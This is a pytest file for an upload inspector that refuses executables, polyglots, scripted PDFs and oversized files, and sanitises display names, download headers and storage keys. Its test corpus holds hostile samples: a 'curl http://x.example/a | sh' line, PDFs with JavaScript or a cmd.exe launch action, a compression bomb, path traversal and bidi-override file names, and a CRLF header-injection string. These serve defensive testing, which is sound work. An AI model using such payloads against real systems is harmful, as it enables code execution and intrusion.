"""Upload inspection against an attack corpus built from bytes, plus display names and keys."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import time
import tracemalloc
import zipfile
import zlib
from urllib.parse import unquote

import pytest

from services.documents.domain import (
    DEFAULT_ALLOWED,
    FILE_KINDS,
    Inspection,
    UploadInspector,
    UploadRefused,
    content_disposition,
    sanitize_filename,
    storage_key,
)

MB = 1024 * 1024
LIMIT = 5 * MB

# --- The corpus, built from bytes -------------------------------------------------------------


def pdf_object_text(number: int, body: bytes) -> bytes:
    return b"%d 0 obj\n%s\nendobj\n" % (number, body)


def stream_body(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def make_pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF with a classic cross-reference table; object n is objects[n - 1]."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += pdf_object_text(number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def page_objects(content: bytes = b"0 0 1 rg 20 20 100 100 re f") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        stream_body(zlib.compress(content), b"/Filter /FlateDecode"),
    ]


def make_pdf_with_object_stream(catalog: bytes = b"<< /Type /Catalog /Pages 2 0 R >>") -> bytes:
    """A PDF 1.5 file whose dictionaries live in a compressed object stream (as Word writes)."""
    inner = [
        catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    offsets, body = [], b""
    for item in inner:
        offsets.append(len(body))
        body += item + b"\n"
    index = b" ".join(b"%d %d" % (n, offset) for n, offset in enumerate(offsets, start=1)) + b"\n"
    packed = zlib.compress(index + body)
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(inner), len(index))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    stream_at = len(out)
    out += pdf_object_text(4, stream_body(packed, entries))
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 4, i) for i in range(len(inner))]
    rows += [struct.pack(">BIH", 1, stream_at, 0), struct.pack(">BIH", 1, xref_at, 0)]
    xref = b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R"
    out += pdf_object_text(5, stream_body(b"".join(rows), xref))
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


def make_jpeg(comment: bytes = b"") -> bytes:
    """A real 1x1 grey baseline JPEG: one DC code and one AC end-of-block code, each one bit."""
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    parts = [
        b"\xff\xd8",
        jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
        jpeg_segment(0xFE, comment) if comment else b"",
        jpeg_segment(0xDB, b"\x00" + bytes([1] * 64)),
        jpeg_segment(0xC0, b"\x08" + struct.pack(">HH", 1, 1) + b"\x01\x01\x11\x00"),
        jpeg_segment(0xC4, b"\x00" + one_code),
        jpeg_segment(0xC4, b"\x10" + one_code),
        jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
        b"\x3f",  # DC "0" and end of block "0", padded with ones
        b"\xff\xd9",
    ]
    return b"".join(parts)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png(size: int = 64, seed: int = 1) -> bytes:
    """A real RGB PNG of random pixels (so its compressed data looks like a photo's)."""
    pixels = random.Random(seed).randbytes(size * size * 3)
    rows = b"".join(b"\x00" + pixels[y * size * 3 : (y + 1) * size * 3] for y in range(size))
    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def make_zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


PDF = make_pdf(*page_objects())
PDF_OBJECT_STREAM = make_pdf_with_object_stream()
JPEG = make_jpeg(comment=random.Random(2).randbytes(6000).replace(b"\xff", b"\xfe"))
PNG = make_png()
ZIP = make_zip({"notes.txt": b"catatan\n" * 50})
DOCX = make_zip(
    {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "word/document.xml": b"<w:document/>",
    }
)
WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 20
    + b"PE\x00\x00"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/me').then(r => r.text()).then(alert)</script></svg>"
)
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\)) >>"


def with_catalog(catalog: bytes, *more: bytes) -> bytes:
    return make_pdf(catalog, *page_objects()[1:], *more)


ACCEPTED = {
    "pdf": (PDF, "pdf"),
    "pdf with a compressed object stream": (PDF_OBJECT_STREAM, "pdf"),
    "pdf opening at page one (no script)": (
        with_catalog(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"),
        "pdf",
    ),
    "pdf whose binary data happens to hold /JS (": (
        make_pdf(*page_objects()[:3], stream_body(b"\x00\x9c\xf1\x02/JS (\x88\x01\xff")),
        "pdf",
    ),
    # reportlab writes images as ASCII85 text, where `/JS(` turns up about once in 100 kB.
    "pdf whose ascii85 image data happens to hold /JS(": (
        make_pdf(
            *page_objects()[:3],
            stream_body(
                b"s8W-!s8N&uGb/JS(9ZhD'>iP<rr<#t/JS <s8W-!\n" * 40 + b"~>",
                b"/Type /XObject /Subtype /Image /Filter /ASCII85Decode",
            ),
        ),
        "pdf",
    ),
    "jpeg": (JPEG, "jpeg"),
    "jpeg padded with zeros": (JPEG + b"\x00" * 64, "jpeg"),
    "png": (PNG, "png"),
    "png padded with zeros": (PNG + b"\x00" * 10, "png"),
}

REFUSED = {
    "windows executable renamed .pdf": (WINDOWS_EXE, "executable"),
    "elf executable": (ELF, "executable"),
    "shell script": (b"#!/bin/sh\ncurl http://x.example/a | sh\n", "executable"),
    "mach-o executable": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, "executable"),
    "java class": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 24, "executable"),
    "java archive": (make_zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n"}), "executable"),
    "tiny windows executable": (b"MZ", "executable"),
    "svg with script": (SVG_WITH_SCRIPT, "type_not_allowed"),
    "html page": (
        b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>",
        "type_not_allowed",
    ),
    "html after whitespace": (b"\n" * 40 + b"  <html><body>x</body></html>", "type_not_allowed"),
    "zip": (ZIP, "type_not_allowed"),
    "docx": (DOCX, "type_not_allowed"),
    "gif": (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04",
        "type_not_allowed",
    ),
    "heic photo": (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "type_not_allowed"),
    "plain text": (b"Nama: Siti Rahayu\nAlamat: Jl. Merdeka 1\n", "type_not_allowed"),
    "unknown bytes": (bytes(range(200, 256)) * 4, "type_unknown"),
    "empty": (b"", "empty"),
    "jpeg followed by a zip": (JPEG + ZIP, "polyglot"),
    "jpeg with a zip inside a comment": (make_jpeg(comment=ZIP), "polyglot"),
    "jpeg with too much padding": (JPEG + b"\x00" * 65, "polyglot"),
    "png with trailing html": (PNG + b"<html><script>alert(1)</script></html>", "polyglot"),
    "pdf followed by a zip": (PDF + ZIP, "polyglot"),
    "pdf that is also a web page": (
        with_catalog(b"<< /Type /Catalog /Pages 2 0 R >> % <html><script>alert(1)</script>"),
        "polyglot",
    ),
    "pdf with javascript": (
        with_catalog(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", JS_ACTION),
        "active_content",
    ),
    "pdf with a script key outside any stream, even without its action type": (
        with_catalog(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /JS (app.alert(1)) >> >>"),
        "active_content",
    ),
    "pdf with a script after an image's data": (
        make_pdf(
            *page_objects()[:3],
            stream_body(b"s8W-!s8N&u~>", b"/Filter /ASCII85Decode"),
            b"<< /JS (app.alert(1)) >>",
        ),
        "active_content",
    ),
    "pdf with an escaped javascript name": (
        with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>"
        ),
        "active_content",
    ),
    "pdf with javascript in an object stream": (
        make_pdf_with_object_stream(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS_ACTION + b" >>"
        ),
        "active_content",
    ),
    "pdf with a launch action": (
        with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"
        ),
        "active_content",
    ),
    "pdf with an embedded file": (
        with_catalog(
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>"
        ),
        "active_content",
    ),
    "truncated pdf": (PDF[: len(PDF) // 2], "truncated"),
    "tiny pdf with only its header": (b"%PDF-1.7\n", "truncated"),
    "pdf ending in junk": (PDF + b"\n" + b"x" * 2000, "truncated"),
    "truncated jpeg": (JPEG[:-300], "truncated"),
    "truncated png": (PNG[: len(PNG) - 200], "truncated"),
}


def chunkings(data: bytes):
    """The same bytes cut in many ways: whole, at random sizes (fixed seeds), byte by byte."""
    yield [data]
    for seed in range(6):
        rng = random.Random(seed)
        pieces, position = [], 0
        while position < len(data):
            size = rng.choice([1, 2, 3, 15, 16, 17, 100, 1023, 1025, 4096, 65536])
            pieces.append(data[position : position + rng.randint(1, size)])
            position += len(pieces[-1])
        yield pieces
    if len(data) <= 4096:
        yield [data[i : i + 1] for i in range(len(data))]


def inspect(pieces, allowed=DEFAULT_ALLOWED, max_bytes=LIMIT) -> Inspection:
    inspector = UploadInspector(allowed, max_bytes)
    for piece in pieces:
        inspector.feed(piece)
    return inspector.finish()


def refusal(pieces, allowed=DEFAULT_ALLOWED, max_bytes=LIMIT) -> UploadRefused:
    with pytest.raises(UploadRefused) as caught:
        inspect(pieces, allowed, max_bytes)
    return caught.value


# --- The corpus, however it is cut --------------------------------------------------------


@pytest.mark.parametrize("name", ACCEPTED)
def test_a_good_file_is_accepted_with_its_size_and_hash(name):
    data, kind = ACCEPTED[name]
    for pieces in chunkings(data):
        assert inspect(pieces) == Inspection(
            kind=kind,
            content_type=FILE_KINDS[kind].content_type,
            size=len(data),
            sha256=hashlib.sha256(data).hexdigest(),
        )


@pytest.mark.parametrize("name", REFUSED)
def test_a_bad_file_is_refused_with_its_code(name):
    data, code = REFUSED[name]
    for pieces in chunkings(data):
        refused = refusal(pieces)
        assert refused.code == code, refused.message
        assert refused.message.startswith("this requirement accepts PDF, JPEG or PNG up to 5 MB; ")


def test_the_message_says_what_was_expected_and_what_came():
    assert refusal([WINDOWS_EXE]).message == (
        "this requirement accepts PDF, JPEG or PNG up to 5 MB; this file is a Windows executable"
    )
    assert "Office document (DOCX, XLSX or PPTX)" in refusal([DOCX]).message
    assert "SVG image" in refusal([SVG_WITH_SCRIPT]).message
    assert "HEIC photo" in refusal([REFUSED["heic photo"][0]]).message
    assert "JavaScript" in refusal([REFUSED["pdf with javascript"][0]]).message


def test_a_kind_outside_the_requirements_allowlist_is_refused():
    refused = refusal([PDF], allowed=frozenset({"jpeg", "png"}), max_bytes=2 * MB)
    assert refused.code == "type_not_allowed"
    assert refused.message == (
        "this requirement accepts JPEG or PNG up to 2 MB; this file is a PDF document"
    )
    assert inspect([PNG], allowed=frozenset({"png"})).kind == "png"


# --- Refusing as early as possible ---------------------------------------------------------


def test_an_executable_is_refused_by_the_feed_that_brings_its_sixteenth_byte():
    inspector = UploadInspector(DEFAULT_ALLOWED, LIMIT)
    inspector.feed(WINDOWS_EXE[:10])
    with pytest.raises(UploadRefused) as caught:
        inspector.feed(WINDOWS_EXE[10:16])
    assert caught.value.code == "executable"


def test_a_file_exactly_at_the_limit_is_accepted_and_one_byte_more_is_refused_on_that_byte():
    body = PNG + b"\x00" * 10
    assert inspect([body], max_bytes=len(body)).size == len(body)
    inspector = UploadInspector(DEFAULT_ALLOWED, len(body))
    inspector.feed(body)
    with pytest.raises(UploadRefused) as caught:
        inspector.feed(b"\x00")
    assert caught.value.code == "too_large"
    assert caught.value.message.endswith(f"this file is larger than {len(body) / 1024:.1f} KB")


def test_javascript_is_found_wherever_a_chunk_boundary_cuts_it():
    data = REFUSED["pdf with javascript"][0]
    start = data.index(b"/JavaScript")
    for cut in range(start - 2, start + len(b"/JavaScript")):
        inspector = UploadInspector(DEFAULT_ALLOWED, LIMIT)
        inspector.feed(data[:cut])  # the script is not complete yet: no refusal
        with pytest.raises(UploadRefused) as caught:
            inspector.feed(data[cut:])
            inspector.finish()
        assert caught.value.code == "active_content"


def test_a_refused_inspection_keeps_refusing_and_a_finished_one_takes_no_more():
    inspector = UploadInspector(DEFAULT_ALLOWED, LIMIT)
    with pytest.raises(UploadRefused):
        inspector.feed(ELF)
    with pytest.raises(UploadRefused) as again:
        inspector.feed(b"more")
    assert again.value.code == "executable"
    finished = UploadInspector(DEFAULT_ALLOWED, LIMIT)
    finished.feed(PNG)
    finished.finish()
    with pytest.raises(RuntimeError):
        finished.feed(b"x")


@pytest.mark.parametrize(
    ("allowed", "max_bytes"),
    [(frozenset(), LIMIT), (frozenset({"gif"}), LIMIT), (DEFAULT_ALLOWED, 0)],
)
def test_an_inspector_needs_known_kinds_and_a_positive_limit(allowed, max_bytes):
    with pytest.raises(ValueError):
        UploadInspector(allowed, max_bytes)


def test_a_compression_bomb_in_an_object_stream_is_refused():
    squeezer = zlib.compressobj(9)
    padding = b" " * MB
    packed = b"".join(squeezer.compress(padding) for _ in range(65)) + squeezer.flush()
    bomb = stream_body(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    assert refusal([make_pdf(*page_objects(), bomb)]).code == "active_content"


# --- Bounded memory and speed --------------------------------------------------------------


def big_pdf_chunks(total: int, chunk: int = 64 * 1024):
    """A PDF-shaped stream of `total` bytes: header, compressed-looking data, an end."""
    block = random.Random(7).randbytes(chunk)
    yield b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 0 >>\nstream\n"
    for _ in range(total // chunk):
        yield block
    yield b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def test_a_50_mb_stream_keeps_the_inspector_small_and_fast():
    inspector = UploadInspector(DEFAULT_ALLOWED, 60 * MB)
    expected = hashlib.sha256()
    largest, size = 0, 0
    started = time.perf_counter()
    for piece in big_pdf_chunks(50 * MB):
        inspector.feed(piece)
        expected.update(piece)
        size += len(piece)
        largest = max(largest, inspector.retained_bytes)
    result = inspector.finish()
    elapsed = time.perf_counter() - started
    assert (result.size, result.sha256) == (size, expected.hexdigest())
    assert largest < 128 * 1024
    assert elapsed < 4, f"50 MB took {elapsed:.2f} s"


def test_memory_does_not_grow_with_the_file():
    pieces = list(big_pdf_chunks(1 * MB))
    inspector = UploadInspector(DEFAULT_ALLOWED, 60 * MB)
    inspector.feed(pieces[0])
    tracemalloc.start()
    try:
        for piece in pieces[1:-1]:  # warm up: the buffers reach their full size
            inspector.feed(piece)
        baseline, _ = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        for _ in range(8):
            for piece in pieces[1:-1]:
                inspector.feed(piece)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak - baseline < 512 * 1024


# --- Names for display and download --------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "kind", "shown"),
    [
        ("KTP Siti Rahayu.pdf", "pdf", "KTP Siti Rahayu.pdf"),
        ("  KTP   Siti\tRahayu .pdf", "pdf", "KTP Siti Rahayu.pdf"),
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("..\\..\\x.exe", "pdf", "x.pdf"),
        ("C:\\Users\\Budi\\Desktop\\SCAN.PDF", "pdf", "SCAN.PDF"),
        ("invoice\u202efdp.exe", "pdf", "invoicefdp.pdf"),
        ("foto\u2066ktp\u2069.jpg", "jpeg", "fotoktp.jpg"),
        ("nama\x00file\r\n.pdf", "pdf", "namafile.pdf"),
        ("scan.jpg.exe", "jpeg", "scan.jpg"),
        ("foto.jpeg", "jpeg", "foto.jpeg"),
        ("foto.png", "jpeg", "foto.jpg"),
        ("surat.docx", "pdf", "surat.pdf"),
        ("Surat Pak H. Budi", "pdf", "Surat Pak H. Budi.pdf"),
        ("Izin: usaha <final>?.pdf", "pdf", "Izin_ usaha _final__.pdf"),
        ("KTP 😀 keluarga 👨\u200d👩\u200d👧.png", "png", "KTP 😀 keluarga 👨\u200d👩\u200d👧.png"),
        ("a" * 300 + ".pdf", "pdf", "a" * 96 + ".pdf"),
        ("😀" * 300 + ".png", "png", "😀" * 96 + ".png"),
        ("", "pdf", "dokumen.pdf"),
        ("...", "jpeg", "dokumen.jpg"),
        ("uploads/", "png", "dokumen.png"),
        (".pdf", "pdf", "dokumen.pdf"),
        ("\u202e\u200b", "pdf", "dokumen.pdf"),
    ],
)
def test_a_display_name_hides_nothing_and_tells_the_truth(name, kind, shown):
    assert sanitize_filename(name, kind) == shown
    assert len(shown) <= 100


def test_a_display_name_needs_a_known_kind():
    with pytest.raises(ValueError):
        sanitize_filename("x.gif", "gif")


@pytest.mark.parametrize(
    ("name", "fallback"),
    [
        ("KTP Siti Rahayu.pdf", "KTP Siti Rahayu.pdf"),
        ('surat "resmi" \\final.pdf', "surat resmi final.pdf"),
        ("Izin Usaha \u2013 Café.pdf", "Izin Usaha Cafe.pdf"),
        ("😀.png", "dokumen.png"),
        ("100%.pdf", "100_.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "a Set-Cookie: x=1.pdf"),
        ("", "dokumen"),
    ],
)
def test_a_download_header_is_safe_and_names_the_file(name, fallback):
    value = content_disposition(name)
    assert value.startswith(f"attachment; filename=\"{fallback}\"; filename*=UTF-8''")
    assert "\r" not in value and "\n" not in value
    assert value.isascii()
    encoded = value.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded, errors="strict") == (" ".join(name.split()) or "dokumen")


# --- Storage keys --------------------------------------------------------------------------

APPLICATION_ID = "0123456789abcdef0123456789abcdef"
DOCUMENT_ID = "fedcba9876543210fedcba9876543210"


def test_storage_keys_are_built_from_ids_only():
    assert storage_key(APPLICATION_ID, DOCUMENT_ID) == f"documents/{APPLICATION_ID}/{DOCUMENT_ID}"
    assert storage_key(APPLICATION_ID, DOCUMENT_ID, archived=True) == (
        f"archive/{APPLICATION_ID}/{DOCUMENT_ID}"
    )


@pytest.mark.parametrize(
    "bad",
    ["../../etc/passwd", "0123456789ABCDEF0123456789ABCDEF", "0123", APPLICATION_ID + "\n", None],
)
def test_a_storage_key_refuses_anything_but_an_id(bad):
    with pytest.raises(ValueError):
        storage_key(bad, DOCUMENT_ID)
    with pytest.raises(ValueError):
        storage_key(APPLICATION_ID, bad)
